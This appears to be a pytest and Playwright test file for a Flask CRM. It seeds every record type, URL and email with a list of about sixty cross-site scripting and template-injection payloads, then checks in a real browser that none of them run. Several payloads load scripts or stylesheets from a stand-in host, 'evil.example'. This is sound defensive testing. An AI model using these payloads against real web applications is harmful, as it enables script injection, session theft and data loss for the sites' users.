"""Hostile words in every text of every kind of row: in a real browser they stay words (T18)."""

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask, Response
from playwright.sync_api import ConsoleMessage, Dialog, Page

from tests.conftest import browser_of
from tests.one_of_everything import Rows, one_of_everything
from tests.reading_browser import ReadingBrowser
from tests.stories.conftest import Meet
from tests.test_access import addresses
from wowcrm.db import db
from wowcrm.documents.models import Link
from wowcrm.outbox.models import Mail
from wowcrm.outbox.sending import send
from wowcrm.traders.models import Trader

TAGS = (
    "<script>HIT</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>HIT</script>",
    "<img src=x onerror=HIT>",
    "<img src=x onerror=HIT//",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:HIT><text>x</text></a></svg>",
    "<body onload=HIT>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe src=javascript:HIT></iframe>",
    "<object data=javascript:HIT></object>",
    "<embed src=javascript:HIT>",
    "<details open ontoggle=HIT>",
    "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT>",
    "<marquee onstart=HIT>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<math><mtext></p><img src=x onerror=HIT></math>",
    "<div hx-get=/clients hx-trigger=load hx-on:htmx:load=HIT></div>",
    "<div hx-on::after-request=HIT hx-get=/ hx-trigger=load></div>",
    "<template><script>HIT</script></template>",
    "<form action=javascript:HIT><button autofocus>x</button></form>",
    "<x onclick=HIT style='position:fixed;inset:0'>x</x>",
)
ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
)
OTHERS = (
    "{{ 7*7 }}",
    "${7*7}",
    '" onmouseover=HIT x="',
    "' autofocus onfocus=HIT x='",
    "` onerror=HIT",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "&lt;img src=x onerror=HIT&gt;",
    "%3Cscript%3EHIT%3C/script%3E",
    "\u2028HIT\u2029",
    "]]><script>HIT</script>",
)
PAYLOADS = (
    *(f"{ENDS[number % len(ENDS)]}{tag}" for number, tag in enumerate(TAGS)),
    *(f"{end}<img src=x onerror=HIT><script>HIT</script>" for end in ENDS),
    *(f"{ENDS[-1 - number % len(ENDS)]}{tag}" for number, tag in enumerate(TAGS[:12])),
    *OTHERS,
)
MARK = " ".join(PAYLOADS).replace("HIT", "hit()")
LISTEN = """window.hits = [];
window.hit = () => window.hits.push('a script ran');
document.addEventListener('securitypolicyviolation', e => window.hits.push('refused: ' + e.blockedURI));
"""
SEEN = "() => [...(window.hits || []), ...document.querySelectorAll('[onerror], [onload], [onfocus]')].map(String)"


class Watch:
    """Hears whatever a page does that words do not."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.heard: list[str] = []
        page.add_init_script(LISTEN)
        page.on("console", self._hear)
        page.on("dialog", self._close)
        page.on("request", lambda request: self._ask(request.url))

    def faults(self, what: str) -> list[str]:
        found = [f"{what}: {each}" for each in (*self.heard, *self.page.evaluate(SEEN))]
        self.heard.clear()
        return found

    def _hear(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.heard.append(message.text)

    def _close(self, dialog: Dialog) -> None:
        self.heard.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _ask(self, url: str) -> None:
        if urlsplit(url).hostname == "evil.example":
            self.heard.append(f"asked {url}")


@pytest.fixture
def watched(app: Flask, nora: Trader, meet: Meet) -> tuple[Watch, str]:
    """Nora's screen, signed in and watched, and where her house is."""
    token = nora.sign_in(agent="A test's browser", at=datetime.now(UTC))
    db.session.commit()
    person = meet("desktop")
    signer = app.session_interface.get_signing_serializer(app)  # type: ignore[attr-defined]
    cookie = {"name": "wowcrm", "value": signer.dumps({"_user_id": token}), "url": person.base}
    person.page.context.add_cookies([cookie])  # type: ignore[list-item]
    return Watch(person.page), person.base


def hostile_rows(trader: Trader) -> Rows:
    """Make a row of every kind, hostile but for what the app itself makes up."""
    rows = one_of_everything(trader, MARK)
    for number, row in enumerate(rows.values()):
        if hasattr(row, "token"):
            row.token = f"{number:032d}"
    db.session.commit()
    return rows


def pages_of(app: Flask, rows: Rows, browser: ReadingBrowser) -> list[str]:
    """List what can be opened as a page; downloads are nothing that a browser would run."""
    link = rows[Link]
    assert isinstance(link, Link)
    browser.reads, browser.may_break = False, True
    opened = [address for rule, address in addresses(app, rows, "GET") if rule.endpoint != "static"]
    opened += [f"/for-you/{quote(link.token, safe='')}"]
    found = []
    for address in opened:
        answer = browser.get(address)
        if answer.mimetype == "text/html" and answer.status_code < 300:
            found.append(address)
        elif answer.status_code < 300 and answer.mimetype not in {"text/css", "text/javascript"}:
            assert answer.headers["X-Content-Type-Options"] == "nosniff", address
    return found


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 60


def test_what_people_typed_runs_nowhere(
    app: Flask, nora: Trader, watched: tuple[Watch, str]
) -> None:
    watch, base = watched
    rows = hostile_rows(nora)
    pages = pages_of(app, rows, browser_of(app, nora))
    asked = [f"/clients?q={quote(MARK[:1500])}", f"/no/{quote(MARK[:900], safe='')}"]
    asked += [f"/sign-in?next={quote(MARK[:900])}"]
    faults: list[str] = []
    shown = 0
    for page in (*pages, *asked):
        watch.page.goto(base + page, wait_until="load")
        faults += watch.faults(page)
        shown += "hit()" in watch.page.content()
    assert len(pages) > 60, f"only {pages} were opened: the walk is broken"
    assert shown > 40, f"hostile words were shown on {shown} pages only: the walk is broken"
    assert not faults, "\n".join(faults[:20])


def test_a_hole_would_be_found(
    app: Flask, nora: Trader, watched: tuple[Watch, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def hole() -> Response:
        return Response(f"<!doctype html><h1>{MARK}</h1>", mimetype="text/html")

    monkeypatch.setitem(app.view_functions, "traders.me", hole)
    watch, base = watched
    watch.page.goto(f"{base}/me", wait_until="load")
    assert watch.faults("/me")


WRITE: dict[str, Callable[[Trader], dict[str, Any]]] = {
    "trial": lambda _trader: {},
    "words": lambda _trader: {"subject": MARK, "text": MARK},
    "enquiry": lambda _trader: {"called": MARK, "by": "tomorrow"},
}


def test_mails_run_nothing_either(nora: Trader, watched: tuple[Watch, str]) -> None:
    watch, _base = watched
    nora.name = nora.business = MARK
    for name, context in WRITE.items():
        send(nora, name, to="ben@example.com", at=nora.now(), **context(nora))
    db.session.flush()
    for mail in db.session.query(Mail):
        assert mail.html
        watch.page.goto("about:blank")
        watch.page.set_content(mail.html)
        assert not watch.faults(mail.kind)
        assert "\n" not in mail.subject
